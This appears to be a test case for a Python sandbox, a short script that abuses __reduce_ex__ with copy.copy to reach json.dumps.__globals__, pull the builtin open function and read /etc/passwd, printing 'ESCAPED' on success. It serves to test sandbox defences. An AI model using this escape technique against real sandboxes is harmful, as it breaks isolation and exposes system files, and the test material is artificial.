# tries: copy calls what __reduce_ex__ returns
# class: reduce
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def dig(space):
    print("REACHED")
    builtins = space["__builtins__"]
    return builtins["open"] if type(builtins) is dict else getattr(builtins, "open")


import copy
import json


class C:
    def __reduce_ex__(self, protocol):
        return getattr, (json.dumps, "__globals__")


use(dig(copy.copy(C())))
